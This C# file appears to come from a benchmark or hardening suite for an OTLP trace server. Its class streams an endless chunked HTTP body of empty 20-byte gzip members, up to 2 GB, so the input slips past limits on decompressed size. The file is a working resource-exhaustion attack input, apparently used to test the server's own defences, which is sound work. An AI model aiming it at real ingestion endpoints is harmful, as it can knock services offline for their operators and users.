using System.Globalization;
using System.Net.Sockets;
using System.Text;

namespace OrleansTempo.Bench.Attack;

/// <summary>An endless gzip body of empty members, 20 bytes each: it decompresses to nothing, so it never reaches a limit on decompressed bytes.</summary>
internal sealed class EmptyGzipMembers() : AttackInput("empty-gzip-members")
{
    private const long MostBytes = 2_000_000_000;
    private const int ChunkMembers = 4000;

    public override async Task<string> SendAsync(AttackTarget target, CancellationToken cancellation)
    {
        var endpoint = target.Server.Otlp(grpc: false);
        using var client = new TcpClient { NoDelay = true };
        await client.ConnectAsync(endpoint.Host, endpoint.Port, cancellation);
        var stream = client.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes(
            $"POST /v1/traces HTTP/1.1\r\nHost: {endpoint.Authority}\r\nX-Scope-OrgID: attacker\r\nContent-Type: application/x-protobuf\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n"), cancellation);
        var answer = ReadAnswerAsync(stream, cancellation);
        var chunk = Chunk();
        long sent = 0;
        try
        {
            for (; sent < MostBytes && !answer.IsCompleted; sent += chunk.Length)
                await stream.WriteAsync(chunk, cancellation);
            if (!answer.IsCompleted)
                await stream.WriteAsync("0\r\n\r\n"u8.ToArray(), cancellation);
        }
        catch (IOException)
        {
            // The server refused it, and may have answered before the end.
        }

        var answered = await answer;
        return string.Create(CultureInfo.InvariantCulture, $"{sent / 1e6:F0} MB: {answered}");
    }

    private static async Task<string> ReadAnswerAsync(NetworkStream stream, CancellationToken cancellation)
    {
        try
        {
            var head = new byte[12];
            await stream.ReadExactlyAsync(head, cancellation);
            return Encoding.ASCII.GetString(head, 9, 3);
        }
        catch (IOException)
        {
            return "closed";
        }
    }

    private static byte[] Chunk()
    {
        // .NET writes nothing for empty input; this is what gzip(1) makes of an empty file.
        byte[] member = [0x1F, 0x8B, 0x08, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        var content = new byte[member.Length * ChunkMembers];
        for (var i = 0; i < content.Length; i += member.Length)
            member.CopyTo(content, i);
        return [.. Encoding.ASCII.GetBytes(content.Length.ToString("x", CultureInfo.InvariantCulture) + "\r\n"), .. content, .. "\r\n"u8];
    }
}
